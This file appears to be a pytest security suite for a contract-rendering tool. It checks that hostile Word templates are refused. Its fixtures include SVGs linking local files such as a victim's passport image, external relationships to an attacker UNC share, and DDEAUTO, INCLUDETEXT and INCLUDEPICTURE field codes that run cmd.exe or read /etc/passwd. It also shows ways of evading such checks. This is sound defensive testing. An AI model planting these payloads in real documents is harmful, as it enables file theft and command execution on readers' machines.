"""Class "DOCX templates", red team round 6 (#2 and #4): what a Word template's parts may hold,
whatever their path, name or encoding, and the field codes it (and the document filled from it)
may carry.

#2: a gzip-compressed SVG (svgz) linking `file:///…/passport.png`, stored at `word/pics/image1.png`
passed the checks (they read a part as XML only when it started with `<`, as a picture only under
`word/media/`), and LibreOffice drew the user's file into the contract PDF. Now every part is
XML (checked in any encoding), a PNG/JPEG/GIF/BMP/TIFF picture, or a font or printer settings
reached as such; compressed parts and EMF/WMF are refused; an outside relationship is only a web
or mail hyperlink, and never the source of a picture.

#4: DDEAUTO, INCLUDETEXT and INCLUDEPICTURE fields in a Word template reached the rendered DOCX
(docxfields.problem ran only on letterhead output). Now the template and the filled document are
both read for fields, simple and complex, split over runs, in every part.
"""

from __future__ import annotations

import gzip
import io
import zipfile

import pytest

from tests.security.attack import en_project, one_line_error, run

pytestmark = pytest.mark.security("docx-templates")

PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d4944415478da63f8cfc0f01f0005000201a5dd2f6f0000000049454e44ae426082")
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
       'width="40" height="40">{}</svg>')
IMAGE = '<image x="0" y="0" width="40" height="40" xlink:href="file:///home/victim/passport.png"/>'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _template(path, picture: bytes | None = None, folder: str = "media", paragraphs=(), parts=None,
              rels=None, document=None) -> None:
    """A Word template made with python-docx: `paragraphs` (XML of runs) after the first one, a
    picture whose bytes are `picture` stored under word/<folder>/, extra `parts`, and `rels` /
    `document` (functions of the XML text) to rewrite word/_rels/document.xml.rels and
    word/document.xml."""
    from docx import Document

    doc = Document()
    doc.add_paragraph("AGREEMENT {{ contract.number }}")
    markers = [doc.add_paragraph(f"MARKER{n}") for n in range(len(paragraphs))]
    assert len(markers) == len(paragraphs)
    if picture is not None:
        doc.add_picture(io.BytesIO(PNG))
    doc.sections[0].footer.paragraphs[0].text = "FOOTERMARK"
    buffer = io.BytesIO()
    doc.save(buffer)
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src, zipfile.ZipFile(path, "w") as out:
        for info in src.infolist():
            name, data = info.filename, src.read(info)
            if name.startswith("word/media/"):
                name, data = name.replace("word/media/", f"word/{folder}/"), picture
            if name == "word/_rels/document.xml.rels":
                text = data.decode().replace('Target="media/', f'Target="{folder}/')
                data = (rels(text) if rels else text).encode()
            if name == "word/document.xml":
                text = data.decode()
                for n, xml in enumerate(paragraphs):
                    text = text.replace(f"<w:r><w:t>MARKER{n}</w:t></w:r>", xml)
                data = (document(text) if document else text).encode()
            if name.startswith("word/footer") and "FOOTERMARK" in data.decode():
                data = data.decode().replace("<w:r><w:t>FOOTERMARK</w:t></w:r>",
                                             (parts or {}).pop("footer-runs", "<w:r><w:t>f</w:t></w:r>")).encode()
            out.writestr(name, data)
        for name, data in (parts or {}).items():
            out.writestr(name, data)


def _use(project) -> None:
    (project / "project.yaml").write_text((project / "project.yaml").read_text()
                                          + "\ntemplates:\n  contract: lawyer/contract.docx\n")


def _refused(project, fragments, formats=("docx",)) -> str:
    for fmt in formats:
        result = run("render", project, "--doc", "contract", "--format", fmt, ok=False)
        line = one_line_error(result)
        assert all(f in line for f in fragments), line
        assert "internal error" not in line
        assert not (project / "out").exists() or not list((project / "out").glob("contract*"))
    checked = run("check", project, ok=False).output
    assert all(f in checked for f in fragments), checked
    return line


# --- #2: every part by its bytes --------------------------------------------------------------

def _utf16(svg: str, bom: bool) -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?>' + svg
    return text.encode("utf-16" if bom else "utf-16-le")


PICTURES = {
    "svgz-outside-media": (gzip.compress(SVG.format(IMAGE).encode()), "pics", "compressed"),
    "svgz-in-media": (gzip.compress(SVG.format(IMAGE).encode()), "media", "compressed"),
    "utf16-svg-bom": (_utf16(SVG.format(IMAGE), True), "pics", "file: URL"),
    "utf16-svg-no-bom": (_utf16(SVG.format(IMAGE), False), "pics", "file: URL"),
    "bom-whitespace-svg": (b"\xef\xbb\xbf \n\t" + SVG.format(IMAGE).encode(), "pics", "file: URL"),
    "entity-escaped-href": (SVG.format('<rect width="4" height="4"/><use xlink:href="&#102;ile:///etc/x#a"/>').encode(),
                            "pics", "file: URL"),
    "use-another-file": (SVG.format('<use xlink:href="other.svg#a"/>').encode(), "pics", "links to"),
    "data-url-image": (SVG.format('<image width="4" height="4" href="data:image/svg+xml;base64,PHN2Zy8+"/>').encode(),
                       "pics", "links to"),
    "foreign-object": (SVG.format("<foreignObject><p>x</p></foreignObject>").encode(), "pics", "<foreignObject>"),
    "css-escape": (SVG.format('<rect width="4" height="4" style="fill:u\\72l(/home/victim/p.svg#x)"/>').encode(),
                   "pics", "links to"),
    "style-import": (SVG.format("<style>@import 'x.css';</style>").encode(), "pics", "style links"),
    "stylesheet-pi": (b'<?xml version="1.0"?><?xml-stylesheet href="file.css"?>' + SVG.format("").encode(),
                      "pics", "processing instruction"),
    "svg-in-another-root": (b'<x:doc xmlns:x="urn:x">' + SVG.format('<image href="/etc/p.png"/>').encode()
                            + b"</x:doc>", "pics", "links to"),
    "png-carrying-svg": (PNG + SVG.format(IMAGE).replace("file://", "").encode(), "media", "SVG markup"),
    "emf": (b"\x01\x00\x00\x00" + b"\0" * 36 + b" EMF" + b"\0" * 60, "media", "EMF or WMF"),
    "wmf-placeable": (b"\xd7\xcd\xc6\x9a" + b"\0" * 60, "media", "EMF or WMF"),
    "emz": (gzip.compress(b"\x01\x00\x00\x00" + b"\0" * 36 + b" EMF"), "media", "compressed"),
    "zip-in-picture": (b"PK\x03\x04" + b"\0" * 40, "media", "compressed"),
    "eps": (b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n", "media", "not an image format"),
}


@pytest.mark.parametrize("case", list(PICTURES))
def test_a_picture_part_is_checked_by_its_bytes_wherever_it_is(ws, case):
    data, folder, fragment = PICTURES[case]
    project = en_project(ws)
    _template(project / "lawyer" / "contract.docx", picture=data, folder=folder)
    _use(project)
    line = _refused(project, [fragment, "refused"])
    assert f"word/{folder}/image1.png" in line


def test_the_red_team_svgz_is_refused_for_pdf_too(ws):
    project = en_project(ws)
    _template(project / "lawyer" / "contract.docx", picture=gzip.compress(SVG.format(IMAGE).encode()),
              folder="pics")
    _use(project)
    _refused(project, ["word/pics/image1.png", "compressed"], formats=("pdf",))


def _external(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="rId99" Type="{R}/{kind}" Target="{target}" TargetMode="{mode}"/>'


RELATIONSHIPS = {
    "file-image": (_external("image", "file:///home/victim/passport.png"), None, "outside resource"),
    "http-image": (_external("image", "http://127.0.0.1:9/pixel.png"), None, "outside resource"),
    "unc-frame": (_external("frame", "\\\\\\\\attacker\\\\share\\\\x.docx"), None, "outside resource"),
    "odd-case-mode": (_external("image", "http://127.0.0.1:9/p.png", " external "), None, "outside resource"),
    "unknown-mode": (_external("image", "http://127.0.0.1:9/p.png", "Remote"), None, "TargetMode"),
    "hyperlink-as-picture": (_external("hyperlink", "http://127.0.0.1:9/p.png"),
                             lambda doc: doc.replace('r:embed="rId', 'r:link="rId99" r:embed="rId', 1),
                             "as the source of a <blip>"),
    "hyperlink-as-vml-image": (_external("hyperlink", "http://127.0.0.1:9/p.png"),
                               lambda doc: doc.replace("</w:body>", '<w:p><w:r><w:pict><v:shape xmlns:v="urn:'
                                                       'schemas-microsoft-com:vml"><v:imagedata r:id="rId99"/>'
                                                       "</v:shape></w:pict></w:r></w:p></w:body>"),
                               "as the source of a <imagedata>"),
    "vml-src": ("", lambda doc: doc.replace("</w:body>", '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-'
                                            'microsoft-com:vml"><v:imagedata src="http://127.0.0.1:9/p.png"/>'
                                            "</v:shape></w:pict></w:r></w:p></w:body>"), "src attribute"),
    "alt-chunk": ("", lambda doc: doc.replace("</w:body>", '<w:altChunk r:id="rId1"/></w:body>'), "altChunk"),
    "font-as-picture": ('<Relationship Id="rId98" Type="' + R + '/image" Target="fonts/font1.odttf"/>',
                        None, "word/fonts/font1.odttf"),
}


@pytest.mark.parametrize("case", list(RELATIONSHIPS))
def test_an_outside_relationship_or_its_use_as_a_source_is_refused(ws, case):
    extra, document, fragment = RELATIONSHIPS[case]
    project = en_project(ws)
    parts = {}
    if case == "font-as-picture":  # an opaque font part, reached as a picture instead of a font
        parts["word/fonts/font1.odttf"] = b"\0\1\2\3" * 40
        parts["[Content_Types].xml"] = None
    _template(project / "lawyer" / "contract.docx", picture=PNG,
              rels=lambda text: text.replace("</Relationships>", extra + "</Relationships>"),
              document=document, parts={k: v for k, v in parts.items() if v is not None})
    if case == "font-as-picture":
        _declare(project / "lawyer" / "contract.docx", "odttf",
                 "application/vnd.openxmlformats-officedocument.obfuscatedFont")
    _use(project)
    _refused(project, [fragment, "refused"])


def _declare(path, extension: str, content_type: str) -> None:
    """Add a Default content type for `extension` to the package's [Content_Types].xml."""
    with zipfile.ZipFile(path) as src:
        items = [(i, src.read(i)) for i in src.infolist()]
    with zipfile.ZipFile(path, "w") as out:
        for info, data in items:
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"<Default ", f'<Default Extension="{extension}" ContentType="{content_type}"/>'
                                    f"<Default ".encode(), 1)
            out.writestr(info, data)


def test_an_unknown_part_anywhere_is_refused(ws):
    project = en_project(ws)
    _template(project / "lawyer" / "contract.docx", parts={"word/theme/blob.bin": b"\x00\x01binary\xff" * 10})
    _use(project)
    _refused(project, ["word/theme/blob.bin", "not an image format"])


def test_an_ordinary_template_with_a_picture_and_web_links_still_renders(ws):
    """PNG pictures, an http hyperlink, an SVG that draws only itself (#ids) and a
    same-document <use> pass."""
    svg = SVG.format('<defs><rect id="a" width="4" height="4"/></defs><use xlink:href="#a"/>'
                     '<rect width="4" height="4" style="fill:url(#a)"/>').encode()
    link = (f'<w:hyperlink xmlns:r="{R}" r:id="rId99"><w:r><w:t>site</w:t></w:r></w:hyperlink>')
    project = en_project(ws)
    _template(project / "lawyer" / "contract.docx", picture=PNG, paragraphs=[link],
              rels=lambda text: text.replace("</Relationships>", _external("hyperlink", "https://example.com/")
                                             + "</Relationships>"),
              parts={"word/media/drawing.svg": svg})
    _use(project)
    run("render", project, "--doc", "contract", "--format", "docx")
    run("check", project)


# --- #4: field codes --------------------------------------------------------------------------

def _simple(instr: str) -> str:
    return f'<w:fldSimple w:instr="{instr}"><w:r><w:t>[field]</w:t></w:r></w:fldSimple>'


def _complex(*pieces: str, nested: str = "") -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces)
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{nested}{runs}<w:r><w:fldChar w:fldCharType='
            '"separate"/></w:r><w:r><w:t>[x]</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


FIELDS = {
    "includetext": _complex(" INCLUDETEXT &quot;/home/victim/secret.txt&quot; "),
    "ddeauto-split": _complex(" DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; "),
    "includepicture-simple": _simple(" INCLUDEPICTURE &quot;http://127.0.0.1:8765/track.png&quot; \\d "),
    "link": _simple("LINK Excel.Sheet.8 &quot;C:\\\\x.xls&quot; &quot;&quot; \\a"),
    "import": _complex("IMPORT &quot;\\\\\\\\attacker\\\\share\\\\p.png&quot;"),
    "database": _simple("DATABASE \\d &quot;C:\\\\db.mdb&quot; \\s &quot;SELECT 1&quot;"),
    "hyperlink-file": _simple("HYPERLINK &quot;file:///etc/passwd&quot;"),
    "macrobutton": _simple("MACROBUTTON AutoOpen click"),
    "lowercase": _simple("includetext &quot;/etc/passwd&quot;"),
    "url-in-an-allowed-field": _simple("DOCPROPERTY &quot;http://127.0.0.1:9/x&quot;"),
    "made-by-a-nested-field": _complex(" &quot;/etc/passwd&quot; ",
                                       nested=_complex('QUOTE &quot;INCLUDETEXT&quot;')),
}


@pytest.mark.parametrize("case", list(FIELDS))
def test_a_field_that_runs_or_fetches_in_a_word_template_is_refused(ws, case):
    project = en_project(ws)
    _template(project / "lawyer" / "contract.docx", paragraphs=["<w:r><w:t>before</w:t></w:r>", FIELDS[case]])
    _use(project)
    line = _refused(project, ["word/document.xml, paragraph 3", "refused"])
    assert "field" in line


def test_a_field_in_the_footer_is_refused_too(ws):
    project = en_project(ws)
    _template(project / "lawyer" / "contract.docx", parts={"footer-runs": FIELDS["includetext"]})
    _use(project)
    _refused(project, ["word/footer", "paragraph 1", "INCLUDETEXT"])


def test_a_field_the_templates_tags_make_is_refused_in_the_filled_document(ws):
    """The template's field reads `PAGE {{ … }}`; the tag writes INCLUDEPICTURE into it."""
    project = en_project(ws)
    _template(project / "lawyer" / "contract.docx",
              paragraphs=[_complex(" PAGE {{ &apos;INCLUDE&apos; ~ &apos;PICTURE&apos; }} ")])
    _use(project)
    _refused(project, ["the document filled from the Word template part word/document.xml, paragraph 2",
                       "INCLUDEPICTURE"])


def test_ordinary_fields_stay(ws):
    from docx import Document

    project = en_project(ws)
    # DATE, REF and = left this list in round 11 (B13): the viewer shows what it computes, not the
    # field's text (tests/security/test_word_template_shown.py)
    keep = [_complex(" PAGE ", " \\* MERGEFORMAT "), _simple("NUMPAGES"), _simple("SECTIONPAGES"),
            _complex(" PAGEREF _Ref1 \\h "), _simple("HYPERLINK &quot;https://example.com/terms&quot;"),
            _complex(' TOC \\o &quot;1-3&quot; \\h ', nested=""), _simple("HYPERLINK \\l &quot;_Toc1&quot;")]
    _template(project / "lawyer" / "contract.docx", paragraphs=keep)
    _use(project)
    run("render", project, "--doc", "contract", "--format", "docx")
    run("check", project)
    written = next((project / "out").glob("contract*.docx"))
    body = zipfile.ZipFile(written).read("word/document.xml").decode()
    assert "NUMPAGES" in body and "PAGEREF _Ref1" in body
    assert Document(str(written)).paragraphs[0].text.startswith("AGREEMENT")


def test_the_filled_document_check_reads_every_part():
    """The check of the filled document, on its own: a field in a header and a UTF-16 part."""
    from contractkit.errors import RenderError
    from contractkit.render.userdocx import checked

    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    doc = (f'<?xml version="1.0" encoding="UTF-16"?><w:hdr xmlns:w="{w}"><w:p/><w:p>'
           + _simple("INCLUDETEXT &quot;/etc/passwd&quot;") + "</w:p></w:hdr>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("word/document.xml", f'<w:document xmlns:w="{w}"><w:body><w:p/></w:body></w:document>')
        z.writestr("word/header7.xml", doc.encode("utf-16"))
    with pytest.raises(RenderError, match=r"word/header7.xml, paragraph 2: the field 'INCLUDETEXT"):
        checked(buffer.getvalue(), "t.docx")


def test_an_embedded_font_is_refused_however_it_is_reached(tmp_path):
    """Word embeds fonts obfuscated (no telling bytes), and LibreOffice draws the text with them: a
    font whose glyphs differ from its characters prints another account number or price than the
    text every check reads (red team 10, B9). Reached from the font table or as a picture, the
    part is refused."""
    from contractkit.errors import RenderError
    from contractkit.render.docxparts import check_parts

    def package(kind: str) -> bytes:
        path = tmp_path / f"{kind}.docx"
        rels = (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="rId1" Type="{R}/{kind}" Target="fonts/font1.odttf"/>'
                "</Relationships>")
        _template(path, parts={"word/fonts/font1.odttf": bytes(range(256)) * 4,
                               "word/_rels/fontTable.xml.rels": rels})
        _declare(path, "odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont")
        return path.read_bytes()

    for kind in ("font", "image"):
        with pytest.raises(RenderError, match="font1.odttf is an embedded font: a font can draw other"):
            check_parts(io.BytesIO(package(kind)), "the Word template", label="t.docx", fields=True)
